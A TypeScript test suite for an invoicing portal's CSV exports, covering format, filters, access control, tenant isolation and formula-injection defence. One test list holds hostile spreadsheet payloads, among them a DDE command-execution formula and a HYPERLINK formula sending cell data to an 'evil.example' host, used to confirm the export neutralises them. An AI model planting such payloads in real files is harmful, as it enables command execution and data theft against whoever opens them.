import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Client } from '../src/clients/client.entity.ts';
import { emFor } from '../src/tenancy.ts';
import { aDraft, aSentInvoice } from './support/invoices.ts';
import { aBusiness, aClient, aColleague, type Customer, type Firm, type Person } from './support/people.ts';
import { startPortal, type Portal } from './support/portal.ts';
import { rows } from './support/rows.ts';

let portal: Portal;
let northwind: Firm;
let acme: Customer;

const KINDS = ['clients', 'invoices', 'payments', 'ledger'] as const;
type Kind = (typeof KINDS)[number];

beforeAll(async () => {
  portal = await startPortal();
  northwind = await aBusiness(portal, 'Northwind');
  acme = await aClient(portal, northwind, 'Acme');
});
afterAll(() => portal.close());

const system = () => emFor(portal.app.services.orm, { kind: 'system' });

async function fileOf(person: Person, kind: Kind, query = ''): Promise<string> {
  const response = await person.fetch(`/admin/files/exports/${kind}.csv${query}`);
  if (response.status !== 200) throw new Error(`${response.status} ${await response.text()}`);
  return Buffer.from(await response.arrayBuffer()).toString('utf8');
}

const recordsOf = async (person: Person, kind: Kind, query?: string) =>
  parse<Record<string, string>>(await fileOf(person, kind, query), { bom: true, columns: true, record_delimiter: '\r\n' });

describe('an export', () => {
  test('is a file that spreadsheets open: UTF-8 with its mark, CRLF, named after the business and the day', async () => {
    const response = await northwind.owner.fetch('/admin/files/exports/clients.csv');
    const content = Buffer.from(await response.arrayBuffer());
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="Northwind clients \d{4}-\d\d-\d\d\.csv"/);
    expect(response.headers.get('cache-control')).toContain('no-store');
    expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(content.toString('utf8').replaceAll('\r\n', '')).not.toContain('\n');
  });

  test('tells of invoices, payments and the ledger what the product says', async () => {
    const firm = await aBusiness(portal, 'Contoso');
    const one = await aClient(portal, firm, 'One, “the” first');
    const { id, number } = await aSentInvoice(firm, one, { issueDate: '2026-03-01', dueDate: '2026-03-15', currency: 'KWD', lines: [{ description: 'x', unitPrice: 1_234_567 }] });
    await firm.owner.get('mutation ($id: ID!) { recordPayment(input: { invoiceId: $id, amount: 1000067, method: BANK_TRANSFER, reference: "-5+6", sendReceipt: false }) { id } }', { id });
    await aDraft(firm, one, { issueDate: '2026-04-01' });

    expect(await recordsOf(firm.owner, 'invoices')).toMatchObject([
      { number, status: 'overdue', client: 'One, “the” first', issue_date: '2026-03-01', due_date: '2026-03-15', currency: 'KWD', total: '1234.567', paid: '1000.067', balance: '234.500' },
      { number: '', status: 'draft', issue_date: '2026-04-01', currency: 'EUR', total: '100.00', paid: '0.00', balance: '0.00' },
    ]);
    expect(await recordsOf(firm.owner, 'payments')).toMatchObject([
      { client: 'One, “the” first', invoices: number, currency: 'KWD', amount: '1000.067', method: 'bank_transfer', reference: `'-5+6`, undone_at: '' },
    ]);
    const ledger = await recordsOf(firm.owner, 'ledger');
    expect(ledger).toMatchObject([
      { kind: 'issued', invoice: number, owed_change: '1234.567', paid_change: '0.000' },
      { kind: 'paid', invoice: number, owed_change: '-1000.067', paid_change: '1000.067' },
    ]);
    expect(await recordsOf(firm.owner, 'clients')).toMatchObject([{ company: 'One, “the” first', email: one.contact.email, archived: 'no' }]);
  });

  test('takes the days and states that were asked for', async () => {
    const firm = await aBusiness(portal, 'Fabrikam');
    const one = await aClient(portal, firm, 'One');
    for (const issueDate of ['2026-01-31', '2026-02-01', '2026-02-28', '2026-03-01']) await aSentInvoice(firm, one, { issueDate, dueDate: '2199-01-01' });
    await aSentInvoice(firm, one, { issueDate: '2026-02-10', dueDate: '2026-02-11' });
    const days = async (query: string) => (await recordsOf(firm.owner, 'invoices', query)).map((row) => row['issue_date']);
    expect(await days('?from=2026-02-01&to=2026-02-28')).toEqual(['2026-02-01', '2026-02-10', '2026-02-28']);
    expect(await days('?from=2026-02-28')).toEqual(['2026-02-28', '2026-03-01']);
    expect(await days('?status=overdue')).toEqual(['2026-02-10']);
    expect(await days('?status=PAID,VOID')).toEqual([]);
    expect(await recordsOf(firm.owner, 'ledger', '?to=1999-12-31')).toEqual([]);
  });

  test('has nothing of an import that was undone, but in the ledger', async () => {
    const firm = await aBusiness(portal, 'Undone');
    const csv = 'number,client_name,issue_date,currency,line_description,unit_price,status\nOLD-1,Undone client,2026-01-01,EUR,x,5.00,paid';
    await aClient(portal, firm, 'Undone client');
    await firm.owner.get('mutation ($csv: String!) { importInvoices(csv: $csv) { imported } }', { csv });
    expect(await recordsOf(firm.owner, 'payments')).toMatchObject([{ invoices: 'OLD-1', amount: '5.00', method: 'imported' }]);
    const { importBatches } = await firm.owner.get<{ importBatches: { id: string }[] }>('{ importBatches { id } }');
    await firm.owner.get('mutation ($id: ID!) { undoImport(id: $id) { id } }', { id: importBatches[0]!.id });
    expect([await recordsOf(firm.owner, 'invoices'), await recordsOf(firm.owner, 'payments')]).toEqual([[], []]);
    const ledger = await recordsOf(firm.owner, 'ledger');
    expect(ledger.map((entry) => entry['kind']).toSorted()).toEqual(['issued', 'paid', 'payment_undone', 'voided']);
    expect(new Set(ledger.map((entry) => entry['invoice']))).toEqual(new Set(['OLD-1']));
  });

  test.each(['invoices.csv?from=yesterday', 'invoices.csv?from=2026-02-01&to=2026-01-01', 'invoices.csv?status=late', 'clients.csv?status=some'])('refuses %s', async (path) => {
    const response = await northwind.owner.fetch(`/admin/files/exports/${path}`);
    expect([response.status, await response.json()]).toMatchObject([400, { error: { code: 'BAD_USER_INPUT' } }]);
  });

  test('has every row once, across batches and equal days', async () => {
    const firm = await aBusiness(portal, 'Wide World');
    await system().execute(
      `insert into client (id, business_id, created_at, name, address) select gen_random_uuid(), ?, now(), 'Same', '{}' from generate_series(1, 2500)`, [firm.business.id],
    );
    const ids = (await recordsOf(firm.owner, 'clients')).map((row) => row['id']);
    expect([ids.length, new Set(ids).size]).toEqual([2_500, 2_500]);
  });
});

describe('what somebody typed', () => {
  const HOSTILE = [
    '=1+1', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '＝1+1', '＋1', '－1', '＠x', '−1',
    '=cmd|\' /C calc\'!A0', 'Acme;=1+1', 'Acme\n=1+1', 'a\t@x', '"=1+1', '","=1+1', '=HYPERLINK("http://evil.example?x="&A1)',
  ];

  test.each(HOSTILE)('is no formula: %j', async (name) => {
    const firm = await aBusiness(portal, `Firm of ${JSON.stringify(name)}`);
    const customer = await aClient(portal, firm, 'X');
    await system().nativeUpdate(Client, { id: customer.client.id }, { name, externalId: name, phone: name, address: [name] });
    await aSentInvoice(firm, customer);
    for (const kind of KINDS) {
      const content = await fileOf(firm.owner, kind);
      // As we mean it, and as a program that parts by semicolon or tab, and knows no quotes in the middle, would.
      const cells = [...parse(content, { bom: true }).flat(), ...content.slice(1).split(/[;\t\r\n]/).map((cell) => cell.replace(/^"/, ''))];
      expect(cells.filter((cell) => /^[\s\u200b\ufeff]*[=+\-@＝＋－＠−]/u.test(cell)).filter((cell) => !/^-?\d+\.\d+$/.test(cell))).toEqual([]);
      expect(kind === 'payments' || content.includes(name.replaceAll('"', '""').trim().slice(-2))).toBe(true);
    }
  });

  test('comes back as it was when the file is imported again', async () => {
    const firm = await aBusiness(portal, 'There');
    await firm.owner.get(`mutation { importClients(csv: "external_id,company,email,phone\\n-7,@home,a@x.example,+46 8 465") { imported } }`);
    const other = await aBusiness(portal, 'Back again');
    const csv = await fileOf(firm.owner, 'clients');
    expect(csv).toContain("'+46 8 465");
    expect(await other.owner.get('mutation ($csv: String!) { importClients(csv: $csv) { imported errors { message } } }', { csv })).toEqual({ importClients: { imported: 1, errors: [] } });
    expect(await rows(portal, 'select external_id, name, phone from client where business_id = $1', [other.business.id])).toEqual([{ external_id: '-7', name: '@home', phone: '+46 8 465' }]);
  });
});

describe.each(KINDS)('%s', (kind) => {
  test('are for the team alone, whatever the role', async () => {
    for (const role of ['BILLING', 'SUPPORT', 'READ_ONLY'] as const) {
      const colleague = await aColleague(portal, northwind, `${role} of ${kind}`, role);
      expect((await colleague.fetch(`/admin/files/exports/${kind}.csv`)).status).toBe(200);
    }
    expect((await acme.person.fetch(`/files/exports/${kind}.csv`)).status).toBe(403);
    expect((await acme.person.fetch(`/admin/files/exports/${kind}.csv`)).status).toBe(401);
    expect((await fetch(`${portal.url}/admin/files/exports/${kind}.csv`)).status).toBe(401);
    expect((await fetch(`${portal.url}/files/exports/${kind}.csv`)).status).toBe(401);
  });

  test("hold nothing of another business", async () => {
    await aSentInvoice(northwind, acme);
    const other = await aBusiness(portal, `Other for ${kind}`);
    expect(await recordsOf(other.owner, kind)).toEqual([]);
  });
});
